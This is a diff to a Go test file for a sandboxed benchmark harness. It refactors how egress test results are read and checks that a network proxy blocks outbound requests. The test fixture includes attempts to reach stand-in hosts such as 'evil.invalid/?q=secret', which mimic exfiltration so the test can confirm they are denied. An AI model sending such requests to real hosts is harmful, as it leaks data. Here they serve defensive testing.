@@ -1,7 +1,6 @@
 package main
 
 import (
-	"encoding/json"
 	"fmt"
 	"os"
 	"os/exec"
@@ -9,6 +8,8 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+
+	"github.com/securebench/sbench/run/record"
 )
 
 // egressPack writes a pack with a terminal task whose harness may reach some domains.
@@ -32,32 +33,20 @@ for url in ("https://evil.invalid/", "http://evil.invalid/?q=secret", "https://a
 P`)
 	output := filepath.Join(h.dir, "out")
 	h.sbench(0, "run", "--quiet", "--config", tester, "--output-dir", output)
-	type line struct {
-		Task   string `json:"task_id"`
-		Out    string `json:"producer_stdout"`
-		Open   bool   `json:"network_enabled"`
-		Egress *struct {
-			Proxy struct{ Denied, Errors int }
-		} `json:"egress"`
-	}
-	records := map[string]line{}
-	text, err := os.ReadFile(filepath.Join(output, "candidates.jsonl"))
-	must(t, err)
-	for row := range strings.Lines(string(text)) {
-		var r line
-		must(t, json.Unmarshal([]byte(row), &r))
-		records[r.Task] = r
+	records := map[string]record.Record{}
+	for _, r := range recordsOf(t, output) {
+		records[r.TaskID] = r
 	}
 	open := records["open"]
 	for _, want := range []string{"HTTPS_PROXY=http://127.0.0.1:3128", "https_proxy=", "ALL_PROXY=", "no_proxy=127.0.0.1,localhost,::1", "nameserver 127.0.0.53", "JAVA_TOOL_OPTIONS=-Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort=3128", "evil.invalid/ <urlopen error Tunnel connection failed: 403", "evil.invalid/?q=secret HTTP Error 403"} {
-		if !strings.Contains(open.Out, want) {
-			t.Errorf("the harness does not say %q:\n%s", want, open.Out)
+		if !strings.Contains(open.ProducerStdout, want) {
+			t.Errorf("the harness does not say %q:\n%s", want, open.ProducerStdout)
 		}
 	}
-	if strings.Contains(open.Out, "reached") || !open.Open || open.Egress == nil || open.Egress.Proxy.Denied < 2 {
+	if strings.Contains(open.ProducerStdout, "reached") || !open.NetworkEnabled || open.Egress == nil || open.Egress.Proxy.Denied < 2 {
 		t.Errorf("%+v", open)
 	}
-	if closed := records["closed"]; strings.Contains(closed.Out, "PROXY") || strings.Contains(closed.Out, "reached") || closed.Egress != nil {
+	if closed := records["closed"]; strings.Contains(closed.ProducerStdout, "PROXY") || strings.Contains(closed.ProducerStdout, "reached") || closed.Egress != nil {
 		t.Errorf("network none: %+v", closed)
 	}
 	log, err := os.ReadFile(filepath.Join(output, "egress.jsonl"))
@@ -101,23 +90,5 @@ func TestKilledWayOut(t *testing.T) {
 	}
 	dead := difference(h.runs(), before)
 	h.sbench(0, "gc")
-	for _, run := range dead {
-		if left := h.left(run); len(left) > 0 {
-			t.Errorf("left behind: %v", left)
-		}
-	}
-}
-
-// pidOf returns a process that alive finds.
-func (h testHost) pidOf(name string) string {
-	h.t.Helper()
-	found, err := filepath.Glob("/proc/[0-9]*/cmdline")
-	must(h.t, err)
-	for _, f := range found {
-		if line, err := os.ReadFile(f); err == nil && strings.Contains(string(line), "sleep 3") && strings.Contains(string(line), h.mark(name)) {
-			return filepath.Base(filepath.Dir(f))
-		}
-	}
-	h.t.Fatalf("no process of %s", name)
-	return ""
+	h.cleared(dead...)
 }
